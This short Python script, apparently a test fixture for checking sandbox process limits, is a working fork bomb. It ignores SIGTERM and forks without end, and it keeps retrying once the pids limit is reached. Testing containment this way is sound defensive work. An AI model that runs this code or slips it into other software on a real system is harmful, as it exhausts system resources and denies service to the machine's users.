"""Hostile agent: a fork bomb. Every process forks as fast as the pids limit lets it."""
import os
import signal
import time

signal.signal(signal.SIGTERM, signal.SIG_IGN)
print("ready", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        # EAGAIN at the pids limit: keep pushing.
        time.sleep(0.001)
